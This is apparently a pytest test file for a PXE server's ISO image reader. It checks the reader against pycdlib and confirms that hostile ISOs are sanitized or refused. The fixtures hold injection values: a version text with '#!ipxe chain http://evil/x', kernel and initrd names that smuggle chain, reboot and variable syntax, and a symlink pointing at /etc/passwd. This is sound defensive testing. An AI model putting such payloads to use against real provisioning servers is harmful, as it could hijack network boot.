"""The lazy ISO reader (pxeprov/images/isofs.py) against pycdlib, and hostile ISOs.

pycdlib reads every directory of an image when it opens it; pxeprov's reader reads only the
directories on the paths it is asked for. pycdlib is the oracle here: for ISOs xorriso builds
from generated trees (Rock Ridge + Joliet, Joliet only, plain ISO 9660), both must see the same
files with the same bytes.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pycdlib
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pxeprov import menucheck
from pxeprov.errors import ImageError
from pxeprov.images import kinds
from pxeprov.images.iso import Iso

from .conftest import Cli, add_signed_uefi_loaders, snapshot
from .grubwords import words
from .isos import clonezilla_files, make_iso

TFTP = "var/lib/tftpboot"
NAME_CHARS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789_-.+ é"
MODES = {
    "rock-ridge": {},
    "joliet": {"rock_ridge": False},
    "iso9660": {"rock_ridge": False, "joliet": False},
}


def _name() -> st.SearchStrategy[str]:
    return st.text(NAME_CHARS, min_size=1, max_size=12).filter(
        lambda n: n.strip(" .") == n and n not in (".", "..")
    )


@st.composite
def trees(draw: st.DrawFn) -> dict[str, int]:
    """{path: size}: files in up to three levels of directories. Names are looked up in any
    case (Iso.lookup), so two paths never differ by case alone: a directory takes the spelling
    of the first one of its name (not both `G/` and `g/`)."""
    dirs = draw(st.lists(st.lists(_name(), min_size=0, max_size=3), min_size=1, max_size=5))
    files: dict[str, int] = {}
    spelling: dict[str, str] = {}  # a directory's path, lower case -> its first spelling
    for drawn in dirs:
        parts: list[str] = []
        for part in drawn:
            path = "/".join([*parts, part])
            parts = spelling.setdefault(path.lower(), path).split("/")
        for name in draw(st.lists(_name(), min_size=1, max_size=4, unique_by=str.lower)):
            path = "/".join([*parts, name])
            if not any(p.lower() == path.lower() or p.lower().startswith(path.lower() + "/")
                       or path.lower().startswith(p.lower() + "/") for p in files):  # fmt: skip
                files[path] = draw(st.integers(0, 6000))
    return files


def _pycdlib_view(path: Path, mode: str) -> dict[str, bytes]:
    """{lower-case path: content} of every file, as pycdlib sees the image."""
    iso = pycdlib.PyCdlib()
    iso.open(str(path))
    key = {"rock-ridge": "rr_path", "joliet": "joliet_path", "iso9660": "iso_path"}[mode]
    out = {}
    try:
        for dirpath, _dirs, names in iso.walk(**{key: "/"}):
            for name in names:
                full = f"{dirpath.rstrip('/')}/{name}"
                with iso.open_file_from_iso(**{key: full}) as f:
                    data = f.read()
                shown = "/".join(
                    part.split(";", 1)[0].removesuffix(".") if mode != "rock-ridge" else part
                    for part in full.split("/")
                )
                out[shown.lower()] = data
    finally:
        iso.close()
    return out


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(tree=trees(), mode=st.sampled_from(sorted(MODES)))
def test_lazy_reader_sees_what_pycdlib_sees(
    tree: dict[str, int], mode: str, tmp_path_factory: pytest.TempPathFactory
) -> None:
    tmp = tmp_path_factory.mktemp("tree")
    iso_path = make_iso(tmp / "t.iso", dict(tree), eltorito=False, **MODES[mode])  # type: ignore[arg-type]
    expected = _pycdlib_view(iso_path, mode)
    with Iso(iso_path) as iso:
        assert iso.namespace == mode
        for path, data in expected.items():
            entry = iso.lookup(path)
            assert entry is not None, path
            if any(other.startswith(path + "/") for other in expected):
                # a file beside a directory of the same name (ISO 9660 names, after xorriso
                # mapped `-` to `_`): by name, the directory is what paths go through
                assert entry.is_dir, path
                continue
            assert entry.size == len(data)
            with iso_path.open("rb") as f:
                got = b"".join(os.pread(f.fileno(), n, o) for o, n in entry.extents)
            assert got == data, path
        top = {p.split("/")[1] for p in expected}
        assert set(iso.listdir("/")) == top


def test_only_the_directories_asked_for_are_read(tmp_path: Path) -> None:
    files: dict[str, bytes | int] = dict(clonezilla_files())
    for d in range(20):
        for i in range(1000):
            files[f"junk/d{d:02d}/a-file-with-a-longish-name-{i:04d}.txt"] = b""
    iso_path = make_iso(tmp_path / "big.iso", files)
    with Iso(iso_path) as iso:
        layout = kinds.detect(iso)
        assert layout.kind == "clonezilla"
        # the root and /live, not the 20,000 entries under /junk
        assert iso.records_read < 50


# ---------------------------------------------------------------- hostile ISOs


@pytest.fixture
def server(loader_root: Path, cli: Cli) -> Path:
    add_signed_uefi_loaders(loader_root)  # the GRUB chain too: grub.cfg is rendered and checked
    r = cli(loader_root, "init", "--interface", "lo", "--address", "127.0.0.1",
            "--subnet", "127.0.0.0/8", "--uefi-loader", "grub", "--no-http")  # fmt: skip
    assert r.exit_code == 0, r.stderr
    return loader_root


def _menus(root: Path) -> tuple[menucheck.PxelinuxMenu, list[list[str]]]:
    pxe = menucheck.parse_pxelinux((root / TFTP / "pxelinux.cfg/default").read_text())
    grub = [
        [w.text for w in words(line)]
        for line in (root / TFTP / "grub/grub.cfg").read_text().splitlines()
        if line.strip().startswith(("menuentry", "linux", "initrd"))
    ]
    return pxe, grub


HOSTILE_VERSION = b'clonezilla-live-3.1.2 {x} $y ; || && \\ "quoted"\n#!ipxe\nchain http://evil/x\n'


def test_hostile_names_and_version_text_never_reach_a_menu(
    server: Path, cli: Cli, tmp_path: Path
) -> None:
    files: dict[str, bytes | int] = {
        "Clonezilla-Live-Version": HOSTILE_VERSION,
        "live/vmlinuz-6.1 ;chain http:||evil #": b"kernel",
        "live/initrd.img-6.1 ${x} imgfree": b"initrd",
        "live/filesystem.squashfs": b"squashfs",
        "live/vmlinuz-0 {$(reboot)}": b"older kernel, not picked",
    }
    iso = make_iso(tmp_path / "evil.iso", files, volume_id="Clonezilla live")
    r = cli(server, "add-image", str(iso), "--name", "evil")
    assert r.exit_code == 0, r.stderr
    folder = server / TFTP / "images/evil"
    assert sorted(p.name for p in folder.iterdir()) == [
        "filesystem.squashfs", "initrd.img", "vmlinuz"]  # fmt: skip
    assert (folder / "vmlinuz").read_bytes() == b"kernel"  # the newest of the two, by name
    entry = json.loads(cli(server, "list", "--json").stdout)["entries"][1]
    assert entry["version"] == "clonezilla-live-3.1.2"
    assert entry["label"] == "Clonezilla live (clonezilla-live-3.1.2)"
    pxe, grub = _menus(server)
    label = pxe.labels[1]
    assert label.menu_label == "Clonezilla live (clonezilla-live-3.1.2)"
    assert (label.kernel, label.initrd) == ("images/evil/vmlinuz", "images/evil/initrd.img")
    assert [g[:2] for g in grub] == [
        ["menuentry", "Boot from local disk"],
        ["menuentry", "Clonezilla live (clonezilla-live-3.1.2) [not signed: no Secure Boot]"],
        ["linux", "/images/evil/vmlinuz"],
        ["initrd", "/images/evil/initrd.img"],
    ]


def _patched(iso_path: Path, old: bytes, new: bytes, count: int = -1) -> Path:
    data = iso_path.read_bytes()
    assert old in data, old
    out = iso_path.with_name("patched-" + iso_path.name)
    out.write_bytes(data.replace(old, new, count))
    return out


def _record_offset(data: bytes, iso_name: bytes) -> int:
    """Where the ISO 9660 directory record of `iso_name` (e.g. b"VMLINUZ.;1") starts: the
    first place where the name stands at offset 33 of something shaped like a record (the path
    table holds directory names too)."""
    at = -1
    while True:
        at = data.index(iso_name, at + 1)
        start = at - 33
        if start >= 0 and data[at - 1] == len(iso_name) and data[start] >= 33 + len(iso_name):
            return start


@pytest.mark.parametrize(
    ("case", "words"),
    [
        ("kernel is a symbolic link", "is a symbolic link"),
        ("kernel is empty", "is empty"),
        ("NUL in the kernel's name", "layout is not one pxeprov knows"),
        ("kernel beyond the end of the image", "is truncated"),
        ("directory too large", "damaged ISO"),
    ],
)
def test_hostile_isos_are_refused_with_exit_10(
    server: Path, cli: Cli, tmp_path: Path, case: str, words: str
) -> None:
    files: dict[str, bytes | int] = dict(clonezilla_files())
    if case == "kernel is a symbolic link":
        del files["live/vmlinuz"]
        iso = make_iso(tmp_path / "a.iso", files, link={"live/vmlinuz": "../../etc/passwd"})
    elif case == "kernel is empty":
        files["live/vmlinuz"] = b""
        iso = make_iso(tmp_path / "a.iso", files)
    elif case == "NUL in the kernel's name":
        # The Rock Ridge name entry (NM) of "vmlinuz", with a NUL in its name.
        iso = _patched(make_iso(tmp_path / "a.iso", files), b"\x00vmlinuz", b"\x00vml\x00nuz", 1)
    elif case == "kernel beyond the end of the image":
        iso = make_iso(tmp_path / "a.iso", files)
        data = bytearray(iso.read_bytes())
        at = _record_offset(bytes(data), b"VMLINUZ.;1")
        far = len(data) // 2048 + 1000
        data[at + 2 : at + 10] = far.to_bytes(4, "little") + far.to_bytes(4, "big")
        iso.write_bytes(bytes(data))
    else:  # the /live directory declares 64 MiB of records
        iso = make_iso(tmp_path / "a.iso", files)
        data = bytearray(iso.read_bytes())
        at = _record_offset(bytes(data), b"LIVE")
        data[at + 10 : at + 18] = (64 << 20).to_bytes(4, "little") + (64 << 20).to_bytes(4, "big")
        iso.write_bytes(bytes(data))
    before = snapshot(server)
    r = cli(server, "add-image", str(iso), "--name", "x")
    assert r.exit_code == 10, (r.exit_code, r.stderr)
    assert words in r.stderr and len(r.stderr.splitlines()) == 1, r.stderr
    assert "Traceback" not in r.stderr
    assert snapshot(server) == before


def test_version_files_hold_no_syntax_even_when_plain(tmp_path: Path) -> None:
    """Plain ISO 9660 names (`CLONEZIL.TXT`-like) go through the same allow-list."""
    files = clonezilla_files()
    del files["Clonezilla-Live-Version"]
    files["CLONEZILLA_LIVE_VERSION"] = b"${x};reboot\n"
    iso_path = make_iso(tmp_path / "p.iso", files, rock_ridge=False, joliet=False)
    with Iso(iso_path) as iso:
        layout = kinds.detect(iso)
    assert (layout.kind, layout.version) == ("clonezilla", "xreboot")


def test_names_with_control_characters_are_never_looked_at(
    server: Path, cli: Cli, tmp_path: Path
) -> None:
    """A newline in the only initrd's name: the entry is skipped, so the layout is unknown."""
    files: dict[str, bytes | int] = dict(clonezilla_files())
    files["live/initrd.img-6.1\nimgfree"] = files.pop("live/initrd.img")
    r = cli(server, "add-image", str(make_iso(tmp_path / "n.iso", files)), "--name", "n")
    assert r.exit_code == 10 and "layout is not one pxeprov knows" in r.stderr
    assert len(r.stderr.splitlines()) == 1


def test_damaged_images_are_image_errors(tmp_path: Path) -> None:
    iso_path = make_iso(tmp_path / "d.iso", clonezilla_files())
    data = bytearray(iso_path.read_bytes())
    data[16 * 2048 + 1 : 16 * 2048 + 6] = b"XXXXX"  # the primary volume descriptor's "CD001"
    iso_path.write_bytes(bytes(data))
    with pytest.raises(ImageError, match="not a readable ISO 9660 image"):
        Iso(iso_path)
